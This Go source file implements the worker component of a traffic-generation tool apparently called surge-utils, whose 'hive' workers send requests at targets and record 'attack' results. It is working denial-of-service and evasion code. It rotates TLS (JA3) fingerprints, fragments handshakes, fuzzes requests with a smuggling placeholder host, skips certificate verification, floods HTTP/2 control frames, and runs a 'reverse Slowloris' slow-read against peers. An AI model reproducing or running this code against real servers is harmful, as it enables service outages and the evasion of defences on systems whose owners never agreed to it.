// Package worker implements the request-emitting members of the hive.
// Each worker owns its inbox, a reusable payload buffer, a latency
// histogram and a TLS rotation handle; nothing here is shared except the
// atomic state kernel and the telemetry channel.
package worker

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"strings"
	"time"

	"github.com/HdrHistogram/hdrhistogram-go"

	"github.com/jihwankim/surge-utils/pkg/core/state"
	"github.com/jihwankim/surge-utils/pkg/fuzz"
	"github.com/jihwankim/surge-utils/pkg/netx"
	"github.com/jihwankim/surge-utils/pkg/reporting"
	"github.com/jihwankim/surge-utils/pkg/telemetry"
	"github.com/jihwankim/surge-utils/pkg/tlsx"
	"github.com/jihwankim/surge-utils/pkg/traffic"
)

const (
	// payloadBufferSize is the initial capacity of the per-worker
	// reusable payload buffer.
	payloadBufferSize = 1024 * 1024

	// maxResponseBytes caps streamed response reads; a hostile
	// responder must not be able to balloon worker memory.
	maxResponseBytes = 10 * 1024 * 1024

	// syncSampleCount and syncInterval bound how long a latency sample
	// sits in the worker-local histogram before shipping.
	syncSampleCount = 100
	syncInterval    = time.Second

	// slowReadSpacing paces the reverse-Slowloris byte reads.
	slowReadSpacing = 500 * time.Millisecond

	// h2FloodFrames bounds the control-frame burst on the binary path.
	h2FloodFrames = 64
)

// ResolverFunc resolves a hostname to a single address. The default uses
// the system resolver; the engine may wire DNS-over-HTTPS instead.
type ResolverFunc func(ctx context.Context, host string) (string, error)

// Options configures a worker.
type Options struct {
	ID        int
	Inbox     <-chan ExecutionTask
	Telemetry chan<- telemetry.Payload
	State     *state.SharedState
	Strategy  traffic.Strategy
	Logger    *reporting.Logger

	// Cycler is the TLS rotation handle. Defaults to native+legacy.
	Cycler *tlsx.Ja3Cycler
	// LocalAddr optionally pins outbound raw sockets to an interface.
	LocalAddr *net.TCPAddr
	// Resolver overrides raw-path hostname resolution.
	Resolver ResolverFunc
	// Timeout bounds each structured request and each raw connect.
	Timeout time.Duration
}

// Worker runs the receive/shape/fuzz/connect/send/measure loop.
type Worker struct {
	id        int
	inbox     <-chan ExecutionTask
	telemetry chan<- telemetry.Payload
	shared    *state.SharedState
	strategy  traffic.Strategy
	fuzzer    fuzz.Polyglot
	cycler    *tlsx.Ja3Cycler
	client    *http.Client
	logger    *reporting.Logger
	localAddr *net.TCPAddr
	resolve   ResolverFunc
	timeout   time.Duration

	buf         []byte
	hist        *hdrhistogram.Histogram
	lastSync    time.Time
	sampleCount int
	truncLogged bool
}

// New constructs a worker with its lifetime-owned buffer, histogram and
// TLS handle.
func New(opts Options) (*Worker, error) {
	if opts.State == nil {
		return nil, fmt.Errorf("worker %d: shared state is required", opts.ID)
	}
	if opts.Strategy == nil {
		return nil, fmt.Errorf("worker %d: traffic strategy is required", opts.ID)
	}
	if opts.Logger == nil {
		return nil, fmt.Errorf("worker %d: logger is required", opts.ID)
	}

	timeout := opts.Timeout
	if timeout <= 0 {
		timeout = 30 * time.Second
	}

	cycler := opts.Cycler
	if cycler == nil {
		var err error
		cycler, err = tlsx.NewDefaultCycler()
		if err != nil {
			return nil, fmt.Errorf("worker %d: tls cycler: %w", opts.ID, err)
		}
	}

	client := &http.Client{
		Timeout: timeout,
		Transport: &http.Transport{
			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
			DisableKeepAlives: true,
		},
	}

	return &Worker{
		id:        opts.ID,
		inbox:     opts.Inbox,
		telemetry: opts.Telemetry,
		shared:    opts.State,
		strategy:  opts.Strategy,
		fuzzer:    fuzz.Polyglot{},
		cycler:    cycler,
		client:    client,
		logger:    opts.Logger.Worker(opts.ID),
		localAddr: opts.LocalAddr,
		resolve:   opts.Resolver,
		timeout:   timeout,
		buf:       make([]byte, 0, payloadBufferSize),
		hist:      telemetry.NewHistogram(),
		lastSync:  time.Now(),
	}, nil
}

// Run consumes the inbox until it closes, then marks the worker dead.
func (w *Worker) Run() {
	w.logger.Info("Worker initialized")

	for task := range w.inbox {
		w.shared.Touch(w.id, time.Now())
		w.shared.SetWorkerStatus(w.id, state.StatusSending)

		var res telemetry.AttackResult
		var err error
		if isRawURL(task.Target.URL) {
			res, err = w.executeRaw(task)
		} else {
			res, err = w.executeStructured(task)
		}

		if err != nil {
			w.shared.RecordError()
			w.logger.Warn("Attack failed", "target", task.Target.URL, "error", err)
		} else {
			w.shared.RecordSuccess(uint64(res.SizeBytes))
			w.recordResult(res)
		}

		w.shared.SetWorkerStatus(w.id, state.StatusIdle)
		w.shared.Touch(w.id, time.Now())
	}

	w.shared.SetWorkerStatus(w.id, state.StatusDead)
	w.logger.Info("Worker shutting down")
}

// metricsView samples the shared state for the strategy.
func (w *Worker) metricsView() traffic.Metrics {
	return traffic.Metrics{
		ErrorCount:   w.shared.ErrorCount.Load(),
		TargetRPS:    w.shared.TargetRPS.Load(),
		JitterFactor: w.shared.JitterFactor.Load(),
	}
}

// executeStructured runs the high-level HTTP path.
func (w *Worker) executeStructured(task ExecutionTask) (telemetry.AttackResult, error) {
	PreciseSleep(w.strategy.NextDelay(w.metricsView()))
	w.strategy.Wait()

	// Structured payloads keep the smuggling placeholder host, even after
	// a raw task has set a real one.
	w.fuzzer.Host = ""
	w.buf = w.fuzzer.Generate(w.buf, task.PayloadTemplate)

	ctx, cancel := context.WithTimeout(context.Background(), w.timeout)
	defer cancel()

	method := strings.ToUpper(task.Target.Method)
	req, err := http.NewRequestWithContext(ctx, method, task.Target.URL, bytes.NewReader(w.buf))
	if err != nil {
		return telemetry.AttackResult{}, fmt.Errorf("build request: %w", err)
	}
	for key, value := range task.Target.Headers {
		req.Header.Set(key, value)
	}

	t0 := time.Now()
	resp, err := w.client.Do(req)
	if err != nil {
		return telemetry.AttackResult{}, fmt.Errorf("send request: %w", err)
	}
	defer resp.Body.Close()

	size, err := w.drainCapped(resp.Body)
	if err != nil {
		return telemetry.AttackResult{}, fmt.Errorf("read response: %w", err)
	}

	return telemetry.AttackResult{
		StatusCode: uint16(resp.StatusCode),
		LatencyUs:  uint64(time.Since(t0).Microseconds()),
		SizeBytes:  size,
	}, nil
}

// drainCapped streams the body up to the hard cap, truncating past it.
// Truncation is not an error; it is logged once per worker.
func (w *Worker) drainCapped(body io.Reader) (int, error) {
	n, err := io.Copy(io.Discard, io.LimitReader(body, maxResponseBytes))
	if err != nil {
		return int(n), err
	}
	if n == maxResponseBytes {
		// Check whether anything was left behind the cap.
		var probe [1]byte
		if extra, _ := body.Read(probe[:]); extra > 0 {
			if !w.truncLogged {
				w.truncLogged = true
				w.logger.Warn("Response exceeded cap, truncated", "cap_bytes", maxResponseBytes)
			}
		}
	}
	return int(n), nil
}

// executeRaw runs the bit-banging path for raw:// and raw-https://.
func (w *Worker) executeRaw(task ExecutionTask) (telemetry.AttackResult, error) {
	start := time.Now()

	host, port, isTLS := splitRawURL(task.Target.URL)
	if host == "" {
		return telemetry.AttackResult{}, fmt.Errorf("raw target %q has no host", task.Target.URL)
	}

	ctx, cancel := context.WithTimeout(context.Background(), w.timeout)
	defer cancel()

	addr, err := w.resolveAddr(ctx, host, port)
	if err != nil {
		return telemetry.AttackResult{}, fmt.Errorf("resolve %s: %w", host, err)
	}

	w.shared.SetWorkerStatus(w.id, state.StatusHandshaking)

	conn, err := netx.ConnectAdversarial(ctx, addr, w.localAddr, task.Profile.ForceHTTP1)
	if err != nil {
		return telemetry.AttackResult{}, err
	}
	defer conn.Close()

	chunk := netx.UnboundedChunk
	if task.Profile.FragmentHandshake {
		chunk = 5
	}
	stream := netx.WrapFragmented(conn, chunk)

	if isTLS {
		stream, err = w.cycler.Handshake(ctx, host, stream, task.Profile)
		if err != nil {
			return telemetry.AttackResult{}, fmt.Errorf("tls handshake: %w", err)
		}

		// Binary path: when the profile permits h2 and the peer
		// negotiates it, flood control frames instead of writing text
		// the peer would reject with PROTOCOL_ERROR.
		if !task.Profile.ForceHTTP1 && tlsx.NegotiatedALPN(stream) == "h2" {
			w.shared.SetWorkerStatus(w.id, state.StatusSending)
			if err := netx.ControlFlood(ctx, stream, h2FloodFrames); err != nil {
				return telemetry.AttackResult{}, err
			}
			return telemetry.AttackResult{
				StatusCode: 200,
				LatencyUs:  uint64(time.Since(start).Microseconds()),
			}, nil
		}
	}

	w.shared.SetWorkerStatus(w.id, state.StatusSending)
	w.strategy.Wait()

	w.fuzzer.Host = host
	w.buf = w.fuzzer.Generate(w.buf, task.PayloadTemplate)
	if task.Profile.ForceHTTP10 {
		w.buf = append(w.buf[:0], "GET / HTTP/1.0\r\n\r\n"...)
	}

	if _, err := stream.Write(w.buf); err != nil {
		return telemetry.AttackResult{}, fmt.Errorf("write payload: %w", err)
	}

	if w.id%10 == 0 {
		w.slowRead(stream)
	}

	// Raw mode never parses a status line; the code is synthetic.
	return telemetry.AttackResult{
		StatusCode: 200,
		LatencyUs:  uint64(time.Since(start).Microseconds()),
		SizeBytes:  len(w.buf),
	}, nil
}

// resolveAddr turns host:port into one dialable socket address.
func (w *Worker) resolveAddr(ctx context.Context, host, port string) (string, error) {
	if w.resolve != nil {
		ip, err := w.resolve(ctx, host)
		if err != nil {
			return "", err
		}
		return net.JoinHostPort(ip, port), nil
	}

	addrs, err := net.DefaultResolver.LookupHost(ctx, host)
	if err != nil {
		return "", err
	}
	if len(addrs) == 0 {
		return "", fmt.Errorf("no address resolved")
	}
	return net.JoinHostPort(addrs[0], port), nil
}

// slowRead trickles the response one byte at a time until EOF, holding
// the peer's send buffer hostage: the receive-side Slowloris.
func (w *Worker) slowRead(conn net.Conn) {
	w.shared.SetWorkerStatus(w.id, state.StatusBlocked)

	var one [1]byte
	for {
		_ = conn.SetReadDeadline(time.Now().Add(w.timeout))
		if _, err := conn.Read(one[:]); err != nil {
			return
		}
		w.shared.Touch(w.id, time.Now())
		time.Sleep(slowReadSpacing)
	}
}

// recordResult folds the sample into the local histogram, offers a trace
// sample to the aggregator, and ships a snapshot when due.
func (w *Worker) recordResult(res telemetry.AttackResult) {
	latency := int64(res.LatencyUs)
	if latency > telemetry.HistogramMaxUs {
		latency = telemetry.HistogramMaxUs
	}
	if latency < telemetry.HistogramMinUs {
		latency = telemetry.HistogramMinUs
	}
	if err := w.hist.RecordValue(latency); err == nil {
		w.sampleCount++
	}

	telemetry.TrySend(w.telemetry, telemetry.Payload{Attack: &res})

	if w.sampleCount >= syncSampleCount || time.Since(w.lastSync) >= syncInterval {
		telemetry.TrySend(w.telemetry, telemetry.Payload{Histogram: w.hist.Export()})
		w.hist.Reset()
		w.sampleCount = 0
		w.lastSync = time.Now()
	}
}
